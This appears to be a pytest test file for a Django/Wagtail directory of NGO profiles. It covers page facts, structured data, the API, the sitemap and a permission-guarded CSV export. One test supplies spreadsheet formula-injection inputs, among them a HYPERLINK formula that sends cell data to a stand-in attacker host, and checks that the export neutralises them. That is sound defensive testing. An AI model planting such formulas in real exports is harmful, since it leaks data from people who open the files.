"""A profile: its facts, structured data, Open Graph, API fields, sitemap and CSV export."""

import csv
import io
import json
import re

import pytest

from django.contrib.auth.models import Permission

from core.models import User

pytestmark = pytest.mark.django_db


@pytest.fixture
def profile(make_org, observation, shkoder, municipality):
    return make_org(
        "Zëri i Qytetarëve",
        acronym="ZQ",
        intro="Vëzhgojmë zgjedhjet në veri.",
        mission="Zgjedhje të lira dhe të ndershme.",
        focus_areas=[observation],
        counties=[shkoder],
        municipalities=[municipality("shkoder")],
        seat=municipality("shkoder"),
        founding_year=2004,
        nipt="L12345678A",
        contact_email="info@zeri.example.org",
        phone="+355 22 123 456",
        website="https://zeri.example.org",
        facebook="https://facebook.com/zeri.example",
        networks="Koalicioni për Zgjedhje të Lira\nRrjeti i Vëzhguesve",
    )


def json_ld(body):
    return json.loads(
        re.search(r'<script type="application/ld\+json">(.*?)</script>', body, re.S).group(1)
    )


def test_profile_shows_its_facts(client, profile):
    body = client.get(profile.url).content.decode()
    for text in ["(ZQ)", "Zgjedhje të lira dhe të ndershme.", "Vëzhgimi i zgjedhjeve", "Shkodër",
                 "2004", "L12345678A", "mailto:info@zeri.example.org", "Rrjeti i Vëzhguesve",
                 'href="https://facebook.com/zeri.example"']:  # fmt: skip
        assert text in body
    assert "?focus=election-observation" in body and "?county=AL-10" in body


def test_profile_has_organization_json_ld_and_open_graph(client, profile):
    body = client.get(profile.url).content.decode()
    data = json_ld(body)
    assert data["@type"] == "NGO" and data["name"] == "Zëri i Qytetarëve"
    assert data["alternateName"] == "ZQ"
    assert data["foundingDate"] == "2004"
    assert data["address"]["addressLocality"] == "Shkodër"
    assert "https://zeri.example.org" in data["sameAs"]
    assert data["knowsAbout"] == ["Vëzhgimi i zgjedhjeve"]
    assert '<meta property="og:title" content="Zëri i Qytetarëve">' in body
    assert '<meta property="og:description" content="Vëzhgojmë zgjedhjet në veri.">' in body


def test_api_lists_public_fields_only(client, profile):
    response = client.get(
        "/api/v2/pages/",
        {"type": "organisations.OrganisationPage", "fields": "*"},
    )
    item = response.json()["items"][0]
    assert item["acronym"] == "ZQ"
    assert item["county_codes"] == ["AL-10"]
    assert item["focus_area_list"] == [
        {"slug": "election-observation", "name": "Vëzhgimi i zgjedhjeve"}
    ]
    assert item["social_links"] == {"facebook": "https://facebook.com/zeri.example"}
    assert "applicant" not in json.dumps(item)


def test_sitemap_lists_profiles(client, profile):
    assert profile.full_url in client.get("/sitemap.xml").content.decode()


def coordinator():
    user = User.objects.create_user("koordinatore", password="x", is_staff=True)
    user.user_permissions.add(
        Permission.objects.get(codename="access_admin"),
        Permission.objects.get(codename="export_directory"),
    )
    return user


def test_coordinators_export_the_directory_as_csv(client, profile, make_org):
    make_org("Alfa")
    client.force_login(coordinator())
    response = client.get("/admin/organisations/export.csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert len(rows) == 3
    assert rows[1][0] == "Alfa" and rows[2][0] == "Zëri i Qytetarëve"
    assert "L12345678A" in rows[2] and "Vëzhgimi i zgjedhjeve" in rows[2]


@pytest.mark.parametrize(
    ("typed", "exported"),
    [
        ('=HYPERLINK("http://ev.il/"&B2)', '\'=HYPERLINK("http://ev.il/"&B2)'),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tTab", "'\tTab"),
        ("\rCR", "'\rCR"),
        ("Qendra = Pukë", "Qendra = Pukë"),
    ],
)
def test_the_csv_export_never_holds_a_live_formula(client, make_org, typed, exported):
    title = typed if typed.strip() == typed else "Qendra"  # Wagtail trims titles
    make_org(title, acronym=typed, phone=typed)
    client.force_login(coordinator())
    response = client.get("/admin/organisations/export.csv")
    assert response.content.startswith("\ufeff".encode())
    (row,) = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))[1:]
    assert row[1] == row[10] == exported  # acronym, phone
    assert row[0] == (exported if title == typed else "Qendra")


def test_export_is_refused_without_the_permission(client, profile):
    user = User.objects.create_user("redaktor", password="x", is_staff=True)
    user.user_permissions.add(Permission.objects.get(codename="access_admin"))
    client.force_login(user)
    refused = client.get("/admin/organisations/export.csv")
    assert refused.status_code == 302 and refused["Location"] == "/admin/"  # with a message
    client.logout()
    anonymous = client.get("/admin/organisations/export.csv")
    assert anonymous.status_code == 302 and "/admin/login/" in anonymous["Location"]
